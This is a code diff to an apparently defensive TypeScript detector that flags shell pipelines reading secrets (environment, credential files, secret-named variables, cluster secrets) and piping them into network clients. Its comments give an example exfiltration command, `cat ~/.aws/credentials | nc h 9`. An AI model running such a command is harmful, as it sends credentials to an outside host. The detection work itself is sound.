@@ -151,7 +151,6 @@ export function codeUploads(analysis: Analysis): Hit[] {
 
 export const uploadPatterns: readonly RegExp[] = [CODE_FILE_READ, CODE_NETWORK_SEND, CODE_WHOLE_ENVIRONMENT];
 
-/** A secret read early in a pipeline and piped into a network client after it (`cat ~/.aws/credentials | nc h 9`). */
 /** A variable named for a secret: `$AWS_SECRET_ACCESS_KEY`, `${GITHUB_TOKEN}`, `$DB_PASSWORD`. */
 const SECRET_VARIABLE = /\$\{?[A-Za-z0-9_]*(?:SECRET|TOKEN|PASSW|API_?KEY|PRIVATE_?KEY|CREDENTIAL)/i;
 
@@ -169,20 +168,25 @@ function readsClusterSecrets(inv: Invocation): boolean {
   );
 }
 
+/** Whether a pipeline member writes secrets into the pipe: a secret it names (`secretOf`), the environment, a secret variable, a cluster's secrets. */
+export function feedsSecrets(m: Invocation, secretOf: (inv: Invocation) => string | undefined): boolean {
+  return (
+    secretOf(m) !== undefined ||
+    m.name === "env" ||
+    m.name === "printenv" ||
+    printsSecretVariable(m) ||
+    readsClusterSecrets(m)
+  );
+}
+
+/** A secret read early in a pipeline and piped into a network client after it (`cat ~/.aws/credentials | nc h 9`). */
 export function pipedSecrets(analysis: Analysis, secretOf: (inv: Invocation) => string | undefined): Hit[] {
   const hits: Hit[] = [];
   for (const p of analysis.pipelines) {
     const members = p.invocations;
     // The receiving end must be a network sender after the first member; most pipelines have none.
     if (!members.some((m, k) => k > 0 && NETWORK_SENDERS.has(m.name))) continue;
-    const reader = members.findIndex(
-      (m) =>
-        secretOf(m) !== undefined ||
-        m.name === "env" ||
-        m.name === "printenv" ||
-        printsSecretVariable(m) ||
-        readsClusterSecrets(m),
-    );
+    const reader = members.findIndex((m) => feedsSecrets(m, secretOf));
     const sender = members.findIndex(
       (m, k) => k > reader && NETWORK_SENDERS.has(m.name) && operands(m.args).length > 0,
     );
